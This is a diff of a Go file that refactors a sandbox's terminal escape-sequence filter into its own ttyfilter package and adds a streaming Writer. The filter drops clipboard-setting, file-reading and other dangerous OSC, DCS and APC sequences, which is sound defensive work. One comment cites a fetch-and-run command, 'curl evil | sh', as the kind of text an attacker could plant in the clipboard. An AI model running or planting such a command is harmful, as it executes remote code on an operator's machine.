@@ -1,8 +1,12 @@
-package bwrap
+// Package ttyfilter is what of a sandbox's terminal output may reach the operator's
+// terminal: the one filter both backends pass it through (bwrap's relay, the vm backend's
+// box shell, box exec and box tmux on a terminal).
+package ttyfilter
 
 import (
 	"bytes"
 	"encoding/binary"
+	"io"
 	"strings"
 )
 
@@ -11,7 +15,7 @@ import (
 //   - operating system commands that act outside the terminal's screen: OSC 52 sets the
 //     host's clipboard (a "curl evil | sh" the operator pastes later), kitty's OSC 5522
 //     reads and writes it too, iTerm2's OSC 1337 writes files (File=) and sets
-//     variables, OSC 50 changes the font (the old xterm font-name exploits); oscFilter
+//     variables, OSC 50 changes the font (the old xterm font-name exploits); Filter
 //     passes only the OSC numbers it knows to act on the screen (allowedOSC) and drops
 //     every other from the stream;
 //   - the other string sequences, which terminals give powers no list of names keeps up
@@ -20,13 +24,13 @@ import (
 //     DCS "|" is DECUDK (xterm: your function keys type the sandbox's text into whatever
 //     you run after it), "1000p" starts iTerm2's tmux integration, "tmux;" hands a
 //     sequence to the terminal outside tmux, an APC "G" with t=f, t=t or t=s makes kitty
-//     read (and for t=t delete) a host file by its path. So they fail closed: oscFilter
+//     read (and for t=t delete) a host file by its path. So they fail closed: Filter
 //     passes only the DCS it knows to act on the screen or answer a query (sixel,
 //     DECRQSS, XTGETTCAP, synchronized update) and kitty's graphics sent in the
 //     sequence itself (t=d); every other DCS, APC, PM and SOS is dropped;
 //   - a screen state left behind (concealed text, an alternate screen, a hidden cursor,
 //     mouse reporting) that hides or garbles what box prints after the run, its audit
-//     report first; terminalReset puts those back before box says anything.
+//     report first; Reset puts those back before box says anything.
 //
 // Other sequences (CSI and ESC: colours, cursor motion; the allowed OSCs: titles,
 // hyperlinks, queries whose answers come back to the sandbox's own terminal) pass unchanged.
@@ -35,7 +39,7 @@ import (
 // file transfer, both ways): dropped whatever follows the number (kitty skips it).
 var droppedOSC = []int{52, 5522, 1337, 50, 5113}
 
-// allowedOSC are the OSC numbers oscFilter passes: what acts on the screen, answers a query
+// allowedOSC are the OSC numbers Filter passes: what acts on the screen, answers a query
 // on the sandbox's own terminal, or tells the terminal where the prompt and the directory
 // are. Every other number followed by ';' is dropped: terminals and the programs they run
 // in give OSC numbers powers no list of names keeps up with (a hostile review, session 12:
@@ -157,16 +161,16 @@ var groundStop = func() (t [256]bool) {
 // with it (it is never a character's text but there).
 const c1OSC = 0x9d
 
-// oscFilter removes the dropped OSC sequences from a byte stream cut anywhere.
-type oscFilter struct {
+// Filter removes the dropped OSC sequences from a byte stream cut anywhere.
+type Filter struct {
 	state   oscState
 	c1      bool   // the sequence began with c1OSC, not ESC ]
 	num     []byte // the OSC number read so far (at most oscMaxDigits)
 	text    []byte // the text after the number an allowedOSC rule decides on
 	dropped int
-	// denyOnly: only droppedOSC is dropped (a test build with ProtOSCAllow off: the
-	// filter as it was before the allowlist).
-	denyOnly bool
+	// DenyOnly: only droppedOSC is dropped (a test build with bwrap's osc-allowlist
+	// off: the filter as it was before the allowlist).
+	DenyOnly bool
 	// A DCS or APC being decided: its kind, its introducer as written (ESC P, or the
 	// 8-bit byte) and the header read so far.
 	kind  strKind
@@ -179,7 +183,7 @@ type oscFilter struct {
 
 // filter appends what of src passes to dst and returns it. The bytes of a sequence cut
 // by a read (ESC, ESC ], a number) are held until the next call decides them.
-func (f *oscFilter) filter(dst, src []byte) []byte {
+func (f *Filter) Append(dst, src []byte) []byte {
 	for len(src) > 0 {
 		switch f.state {
 		case oscGround:
@@ -234,13 +238,13 @@ func (f *oscFilter) filter(dst, src []byte) []byte {
 				src = src[1:]
 			case b >= '0' && b <= '9':
 				f.state, f.dropped = oscDrop, 0 // no terminal's command: dropped whole
-			case b == ';' && (oscSuspect(f.num) || !f.denyOnly && !oscAllowed(f.num)):
+			case b == ';' && (oscSuspect(f.num) || !f.DenyOnly && !oscAllowed(f.num)):
 				f.state, f.dropped = oscDrop, 0
 				src = src[1:]
-			case b == ';' && !f.denyOnly && allowedOSC[oscValue(f.num)] != nil:
+			case b == ';' && !f.DenyOnly && allowedOSC[oscValue(f.num)] != nil:
 				f.state, f.text = oscText, f.text[:0]
 				src = src[1:]
-			case oscDroppedNumber(f.num), !f.c1 && !f.denyOnly && len(f.num) > 0 && !oscAllowed(f.num):
+			case oscDroppedNumber(f.num), !f.c1 && !f.DenyOnly && len(f.num) > 0 && !oscAllowed(f.num):
 				// Some terminals skip whatever follows the number (kitty): dropped
 				// whatever it is, b included (a terminator ends the drop at once). A
 				// number off the list after 0x9d, which may be a quote's last byte in
@@ -316,7 +320,7 @@ func (f *oscFilter) filter(dst, src []byte) []byte {
 }
 
 // startString begins deciding a DCS or APC introduced by intro.
-func (f *oscFilter) startString(k strKind, intro []byte) {
+func (f *Filter) startString(k strKind, intro []byte) {
 	f.state, f.kind = strHeader, k
 	f.intro = append(f.intro[:0], intro...)
 	f.hdr = f.hdr[:0]
@@ -331,7 +335,7 @@ const (
 )
 
 // header reads one byte of a DCS's or APC's header and says what to do.
-func (f *oscFilter) header(b byte) int {
+func (f *Filter) header(b byte) int {
 	if f.kind == strAPC {
 		switch {
 		case len(f.hdr) == 0 && b != 'G':
@@ -418,7 +422,7 @@ func kittyDirect(ctrl []byte) bool {
 // introducer a UTF-8 terminal reads as a control (-1: none). It looks a window at a
 // time for ESC (IndexByte) and for a byte with its high bit set (a word at a time),
 // so plain text costs no per-byte branch and no window is read twice.
-func (f *oscFilter) groundEnd(src []byte) int {
+func (f *Filter) groundEnd(src []byte) int {
 	const window = 512
 	for start := 0; start < len(src); start += window {
 		w := src[start:min(start+window, len(src))]
@@ -445,7 +449,7 @@ func (f *oscFilter) groundEnd(src []byte) int {
 // c1Control: the byte at src[i] (0x80-0xbf) is a control to a UTF-8 terminal, not a
 // character's continuation: no lead byte before it expects it, or it follows C2 at once
 // (U+0080-U+009F are the C1 controls). The bytes before src are f.hist.
-func (f *oscFilter) c1Control(src []byte, i int) bool {
+func (f *Filter) c1Control(src []byte, i int) bool {
 	before := func(k int) int { // the byte k places before src[i], -1 when unknown
 		if j := i - k; j >= 0 {
 			return int(src[j])
@@ -478,7 +482,7 @@ func (f *oscFilter) c1Control(src []byte, i int) bool {
 }
 
 // remember keeps the last ground bytes for c1Control across reads.
-func (f *oscFilter) remember(src []byte) {
+func (f *Filter) remember(src []byte) {
 	if len(src) >= 3 {
 		f.hist = append(f.hist[:0], src[len(src)-3:]...)
 		return
@@ -490,7 +494,7 @@ func (f *oscFilter) remember(src []byte) {
 }
 
 // held appends the OSC's introducer and number, held until decided, to dst.
-func (f *oscFilter) held(dst []byte) []byte {
+func (f *Filter) held(dst []byte) []byte {
 	if f.c1 {
 		dst = append(dst, c1OSC)
 	} else {
@@ -536,10 +540,34 @@ func oscSuspect(num []byte) bool {
 	return oscDroppedNumber(num) || len(num) > 5 || (len(num) > 1 && num[0] == '0')
 }
 
-// terminalReset puts back the screen state a sandbox may have left, before box prints:
+// Reset puts back the screen state a sandbox may have left, before box prints:
 // attributes (conceal, colours), the main screen (?47l: ?1049l would also restore a
 // cursor position saved long before), the cursor shown, mouse and focus reporting and
 // bracketed paste off, origin mode off, the ASCII character set in G0 and selected (a
 // line-drawing set garbles every letter). A shell turns on what it uses again at its
 // next prompt.
-const terminalReset = "\x1b[0m\x1b[?47l\x1b[?25h\x1b[?1000l\x1b[?1002l\x1b[?1003l\x1b[?1006l\x1b[?1004l\x1b[?2004l\x1b[?6l\x1b(B\x0f"
+const Reset = "\x1b[0m\x1b[?47l\x1b[?25h\x1b[?1000l\x1b[?1002l\x1b[?1003l\x1b[?1006l\x1b[?1004l\x1b[?2004l\x1b[?6l\x1b(B\x0f"
+
+// Writer passes what is written through a Filter to W: for a caller handed a stream (the
+// vm backend's exec), where bwrap's relay calls Append itself.
+type Writer struct {
+	W   io.Writer
+	f   Filter
+	out []byte
+}
+
+// NewWriter filters what it is given into w.
+func NewWriter(w io.Writer) *Writer { return &Writer{W: w} }
+
+// Write filters p into W and reports p consumed: what the filter drops, or holds until
+// the next write decides it, was written as far as the caller is concerned.
+func (w *Writer) Write(p []byte) (int, error) {
+	w.out = w.f.Append(w.out[:0], p)
+	if len(w.out) == 0 {
+		return len(p), nil
+	}
+	if _, err := w.W.Write(w.out); err != nil {
+		return 0, err
+	}
+	return len(p), nil
+}
